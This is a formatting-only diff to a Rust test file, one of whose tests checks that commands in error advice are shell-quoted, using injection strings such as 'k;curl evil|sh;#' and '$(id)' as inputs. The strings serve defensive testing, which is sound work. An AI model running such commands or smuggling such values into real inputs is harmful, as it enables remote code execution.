@@ -148,10 +148,7 @@ fn failures_say_what_to_do() {
         assert!(is_clear, "{problem}");
     }
     gateway.set_status(&connection, "active");
-    let limit = |value: &str| Fault::RetryAfter {
-        status: 429,
-        value: value.into(),
-    };
+    let limit = |value: &str| Fault::RetryAfter { status: 429, value: value.into() };
     let (resolve, user) = ("/v1/resolve", "/user");
     let missing = Fault::reply(404, "text/plain", "no such");
     for (path, times, fault, expected) in [
@@ -175,13 +172,7 @@ fn failures_say_what_to_do() {
 #[cfg(unix)]
 #[test]
 fn a_command_in_an_advice_is_quoted_for_a_shell() {
-    let words = [
-        "k;curl evil|sh;#",
-        "$(id) `id`",
-        "-x",
-        r#"it's "\*?~&>{a,b}"#,
-        "a\tb",
-    ];
+    let words = ["k;curl evil|sh;#", "$(id) `id`", "-x", r#"it's "\*?~&>{a,b}"#, "a\tb"];
     let missing = r#"{"error": "connection_not_found"}"#;
     for word in words {
         let gateway = DevGateway::start().unwrap();
